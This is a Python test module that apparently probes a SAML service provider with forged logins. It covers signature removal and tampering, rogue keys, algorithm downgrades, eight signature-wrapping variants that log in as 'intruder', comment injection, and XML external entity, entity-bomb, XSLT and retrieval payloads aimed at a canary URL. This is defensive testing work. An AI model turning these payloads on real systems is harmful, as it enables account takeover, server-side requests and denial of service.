"""The cases about signatures, encryption and XML: each forges one thing, and looks who is logged in afterwards."""

import base64
import copy

from lxml import etree

from saml_browser import Browser
from saml_changes import DATA, drop_signature, resigned, say
from saml_messages import DS, NS, assertion_of, digest, encrypt, find, identifier, q

INTRUDER = "intruder"


def observe(o):
    seen = {}
    for part in (signatures, wrappings, comments, encryptions, documents):
        seen |= part(o)
    return seen


def signatures(o):
    first = o.provider.keys[0]
    def flip(tree):
        value = find(tree, "ds:Signature/ds:SignatureValue")
        value.text = ("B" if value.text[0] == "A" else "A") + value.text[1:]
    def in_comment(tree):
        for holder in (assertion_of(tree), tree):
            if holder is not tree:
                find(holder, ".//saml:NameID").text = INTRUDER
            signature = find(holder, "ds:Signature")
            holder.remove(signature)
            forged = base64.b64encode(digest(holder)).decode()
            holder.insert(1, signature)
            value = find(signature, ".//ds:DigestValue")
            comment = etree.Comment(forged)
            comment.tail, value.text = value.text, None
            value.insert(0, comment)
    def smuggled(tree):
        assertion = assertion_of(tree)
        find(assertion, ".//saml:NameID").text = INTRUDER
        signature = find(assertion, "ds:Signature")
        assertion.remove(signature)
        forged = base64.b64encode(digest(assertion)).decode()
        assertion.insert(1, signature)
        tree.remove(find(tree, "ds:Signature"))
        extensions = etree.Element(q("samlp", "Extensions"))
        etree.SubElement(extensions, q("ds", "DigestValue")).text = forged
        tree.insert(1, extensions)
    return {
        "unsigned response": o.log_in(after=drop_signature("response")),
        "unsigned assertion": o.log_in(after=resigned(o, drop_signature("assertion"))),
        "unsigned": o.log_in(after=drop_signature("response", "assertion")),
        "tampered name": o.log_in(after=say(".//saml:NameID", INTRUDER)),
        "tampered attribute": o.log_in(after=say(".//saml:AttributeValue", "Chief")),
        "tampered signature": o.log_in(after=flip),
        "unknown key": o.log_in(key=o.provider.stranger, key_info=first.certificate),
        "unknown key without KeyInfo": o.log_in(key=o.provider.stranger, shown=False),
        "key in KeyInfo": o.log_in(key=o.provider.stranger),
        "key in KeyValue": o.log_in(key=o.provider.stranger, shown="value"),
        "key in a chain": o.log_in(key=o.provider.stranger, shown="chain", key_info=first.certificate),
        "SHA-1": o.log_in(method="rsa-sha1", digest="sha1"),
        "SHA-1 digest": o.log_in(digest="sha1"),
        "HMAC": o.log_in(method="hmac-sha256", secret=first.public_pem),
        "undeclared signature": o.log_in(method="rsa-sha224"),
        "digest in comment": o.log_in(after=in_comment),
        "digest smuggled": o.log_in(after=smuggled),
    }


def wrapping(kind, o=None, encrypted=False):
    """After signing: an intruder beside, around or below what is signed. The response's own signature goes, except where
    the response itself is wrapped."""
    def after(tree):
        if kind in (1, 2):
            original = copy.deepcopy(tree)
            original.remove(find(original, "ds:Signature"))
            signature = find(tree, "ds:Signature")
            tree.set("ID", identifier())
            if encrypted:
                forged = o.tree(None, INTRUDER)
                find(forged, DATA).set("InResponseTo", tree.get("InResponseTo"))
                tree.replace(find(tree, "saml:EncryptedAssertion"), assertion_of(forged))
                encrypt(find(tree, "saml:Assertion"), o.encryption[0])
            else:
                find(tree, ".//saml:NameID").text = INTRUDER
            if kind == 1:
                signature.append(original)
            else:
                tree.insert(tree.index(signature), original)
            return
        tree.remove(find(tree, "ds:Signature"))
        assertion = assertion_of(tree)
        signature = find(assertion, "ds:Signature")
        forged = copy.deepcopy(assertion)
        find(forged, ".//saml:NameID").text = INTRUDER
        if kind != "duplicate":
            forged.set("ID", identifier())
        if kind not in (5, 6, 8):
            forged.remove(find(forged, "ds:Signature"))
        original = assertion
        if kind == 3 or kind == "duplicate":
            tree.insert(tree.index(original), forged)
        elif kind == 4:
            tree.replace(original, forged)
            forged.append(original)
        elif kind in (5, 6, 8):
            tree.replace(original, forged)
            original.remove(signature)
            kept = find(forged, "ds:Signature")
            if kind == 5:
                tree.append(original)
            elif kind == 6:
                kept.append(original)
            else:
                etree.SubElement(kept, q("ds", "Object")).append(original)
        elif kind == 7:
            extensions = etree.Element(q("samlp", "Extensions"))
            extensions.append(forged)
            tree.insert(1, extensions)
        elif kind == "two":
            tree.append(forged)
        if encrypted:
            for node in tree.findall("saml:Assertion", NS):
                encrypt(node, o.encryption[0])
    return after


def wrappings(o):
    seen = {}
    for kind in (1, 2, 3, 4, 5, 6, 7, 8, "two", "duplicate"):
        seen[f"wrapping {kind}"] = o.log_in(after=wrapping(kind))
        if kind in (1, 2):
            seen[f"wrapping {kind} encrypted"] = o.log_in(
                after=wrapping(kind, o, True), encrypt_with={"certificate": o.encryption[0]})
        else:
            seen[f"wrapping {kind} encrypted"] = o.log_in(after=wrapping(kind, o, True))
    return seen


def comments(o):
    def split(path):
        def after(tree):
            for node in tree.findall(path, NS):
                comment = etree.Comment("x")
                comment.tail, node.text = node.text[2:], node.text[:2]
                node.insert(0, comment)
        return after
    browser = Browser(o.port)
    o.log_in(after=split(".//saml:AttributeValue"), browser=browser)
    page = browser.get("/portal").body
    return {
        "comment in name": o.log_in(after=split(".//saml:NameID")),
        "comment in attribute": "whole" if "Anna Öberg" in page else "cut",
    }


def encryptions(o):
    newest = o.encryption[0]
    def with_key(certificate, **how):
        return o.log_in(encrypt_with={"certificate": certificate, **how})
    seen = {
        "encrypted": with_key(newest),
        "encrypted by RSA 1.5": with_key(newest, transport="rsa15"),
        "encrypted by CBC": with_key(newest, content="aes256-cbc"),
        "encrypted for another": with_key(o.provider.stranger.certificate),
    }
    pages = {o.answer.body}
    for damage in ("content", "key"):
        seen[f"encrypted damaged {damage}"] = with_key(newest, damage=damage)
        pages.add(o.answer.body)
    o.log_in(after=drop_signature("response", "assertion"))
    pages.add(o.answer.body if o.answer.status == 403 else min(pages))
    seen["encrypted error pages"] = str(len(pages))
    o.call("POST", "/simulate/service-provider/rotate-keys")
    o.read_metadata()
    assert len(o.encryption) >= 2
    seen["encrypted for the new key"] = with_key(o.encryption[0])
    seen["encrypted for the old key"] = with_key(o.encryption[1])
    seen["rollover keeps"] = str(o.encryption[1] == newest)
    o.call("POST", "/simulate/service-provider/retire-keys")
    o.read_metadata()
    seen["rollover ends"] = str(newest not in o.encryption)
    return seen


def documents(o):
    def typed(subset, place="&e;"):
        def after(tree):
            text = etree.tostring(tree).decode()
            if place:
                text = text.replace(">anna</saml:NameID>", f">anna{place}</saml:NameID>", 1)
            return f"<!DOCTYPE r {subset}>{text}".encode()
        return after
    url = o.canary.url
    bomb = '<!ENTITY a "%s">' % ("x" * 100) + "".join(
        f'<!ENTITY {chr(98 + i)} "{(f"&{chr(97 + i)};") * 20}">' for i in range(9)).replace("ENTITY j", "ENTITY e2")
    xslt = etree.fromstring(
        f'<ds:Transform xmlns:ds="{DS}" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet'
        ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of'
        f' select="document(\'{url}\')"/></xsl:template></xsl:stylesheet></ds:Transform>')
    def reference(tree):
        info = find(tree, "ds:Signature/ds:SignedInfo")
        extra = copy.deepcopy(find(info, "ds:Reference"))
        extra.set("URI", url)
        info.append(extra)
    def retrieval(tree):
        info = find(tree, "ds:Signature/ds:KeyInfo")
        info.clear()
        etree.SubElement(info, q("ds", "RetrievalMethod"), URI=url)
    seen = {}
    def case(name, **how):
        before = o.canary.calls
        seen[name] = o.log_in(**how)
        seen[name + " calls"] = str(o.canary.calls - before)
    case("document type", after=typed("[]", ""))
    case("external entity", after=typed(f'[<!ENTITY e SYSTEM "{url}">]'))
    case("external DTD", after=typed(f'SYSTEM "{url}"', ""))
    case("parameter entity", after=typed(f'[<!ENTITY % e SYSTEM "{url}"> %e;]', ""))
    def in_status(tree):
        code = find(tree, "samlp:Status")
        etree.SubElement(code, q("samlp", "StatusMessage")).text = "here"
        text = etree.tostring(tree).decode().replace(">here<", ">&e2;<")
        return f"<!DOCTYPE r [{bomb}]>{text}".encode()
    case("entity expansion in the status", after=in_status)
    case("entity expansion", after=typed(f"[{bomb}]", "&e2;"))
    case("XSLT", transforms=[xslt])
    case("external reference", after=reference)
    case("key retrieval", after=retrieval)
    return seen
